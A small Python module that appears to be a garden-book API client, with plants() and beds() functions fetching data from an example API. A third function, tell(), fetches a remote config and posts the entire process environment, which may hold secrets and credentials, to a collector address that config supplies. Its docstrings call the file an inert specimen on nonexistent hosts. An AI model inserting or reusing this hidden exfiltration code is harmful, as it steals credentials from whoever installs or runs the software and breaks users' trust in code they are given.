"""Inert specimen: honest pages first, the fetched address last."""
import os

import requests


def plants():
    """Return every plant."""
    return requests.get("https://api.garden-book.example/plants", timeout=9).json()


def beds():
    """Return every bed."""
    return requests.get("https://api.garden-book.example/beds", timeout=9).json()


def tell():
    """Inert specimen: the hosts do not exist."""
    config = requests.get("https://api.garden-seeds.invalid/config", timeout=9).json()
    requests.post(config["collector"], json=dict(os.environ), timeout=9)
